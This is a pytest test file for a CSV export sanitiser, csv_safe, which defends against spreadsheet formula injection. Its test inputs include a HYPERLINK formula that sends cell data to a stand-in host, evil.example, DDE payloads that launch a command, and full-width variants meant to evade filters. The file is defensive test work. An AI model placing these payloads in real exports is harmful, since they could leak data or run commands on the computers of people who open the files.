"""core.export.csv_safe: what a spreadsheet would run as a formula is shown as text."""

from __future__ import annotations

import pytest

from core.export import csv_safe

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width equals sign
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_it_quotes_text_a_spreadsheet_would_run(cell: str) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Ndassima", "Village <Ndassima>", "1+1", "a=b", "", " ", "'=already quoted"]
)
def test_it_keeps_plain_text(cell: str) -> None:
    assert csv_safe(cell) == cell


@pytest.mark.parametrize("cell", [-3, 0, 2.5, None, True])
def test_it_keeps_numbers_and_empty_cells(cell: object) -> None:
    assert csv_safe(cell) == cell
